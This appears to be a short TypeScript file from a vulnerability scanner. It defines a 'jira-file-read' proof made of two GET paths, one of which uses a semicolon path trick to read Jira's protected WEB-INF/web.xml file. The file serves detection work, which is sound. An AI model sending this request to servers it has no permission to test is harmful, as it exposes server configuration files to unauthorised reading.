import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof('jira-file-read', get('/s/x/_/;/WEB-INF/web.xml'), get('/s/x/_/download/batch/x.js')),
]
